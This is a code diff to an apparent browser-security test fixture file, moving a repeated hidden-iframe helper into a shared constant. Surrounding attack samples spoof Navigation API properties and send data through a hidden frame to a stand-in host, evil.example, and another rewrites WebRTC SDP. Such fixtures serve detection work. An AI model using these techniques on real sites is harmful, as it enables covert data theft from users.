@@ -55,6 +55,16 @@ export const HARD_CODED_PEER = `const pc = new RTCPeerConnection();
   const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
   await pc.setRemoteDescription({ type: 'answer', sdp });`;
 
+/** `frame(name)`: a hidden, named frame showing a shop page of its own, resolved once it has loaded. */
+export const SHOP_FRAME = `const frame = (name) => {
+    const f = document.createElement('iframe');
+    f.name = name;
+    f.hidden = true;
+    f.src = '/kz/pages/questions';
+    document.body.appendChild(f);
+    return new Promise((resolve) => (f.onload = () => resolve(f)));
+  };`;
+
 export const MAIN_WORLD_SCRIPTS = {
   /** Loads its payload as blob: and data: scripts, which no site ships. */
   'blob-data': `(() => {
@@ -415,14 +425,7 @@ export const MAIN_WORLD_SCRIPTS = {
     Object.defineProperty(NavigationDestination.prototype, 'url', { get: () => location.origin + '/kz/', configurable: true });
     Object.defineProperty(NavigateEvent.prototype, 'userInitiated', { get: () => true, configurable: true });
   }
-  const frame = (name) => {
-    const f = document.createElement('iframe');
-    f.name = name;
-    f.hidden = true;
-    f.src = '/kz/pages/questions';
-    document.body.appendChild(f);
-    return new Promise((resolve) => (f.onload = () => resolve(f)));
-  };
+  ${SHOP_FRAME}
   Promise.all([frame('saq-nav-a'), frame('saq-nav-b'), frame('saq-nav-c')]).then(([a, , d]) => {
     a.onload = d.onload = null;
     a.contentWindow.location.href = 'https://evil.example/nav-frame?c=' + c;
@@ -756,14 +759,7 @@ export const BENIGN = {
    */
   'pay-navigations': `(() => {
   const ref = encodeURIComponent(document.cookie);
-  const frame = (name) => {
-    const f = document.createElement('iframe');
-    f.name = name;
-    f.hidden = true;
-    f.src = '/kz/pages/questions';
-    document.body.appendChild(f);
-    return new Promise((resolve) => (f.onload = () => resolve(f)));
-  };
+  ${SHOP_FRAME}
   Promise.all([frame('pay-a'), frame('pay-b')]).then(([a]) => {
     a.onload = null;
     a.contentWindow.location.href = 'https://pay.example/checkout?ref=' + ref;
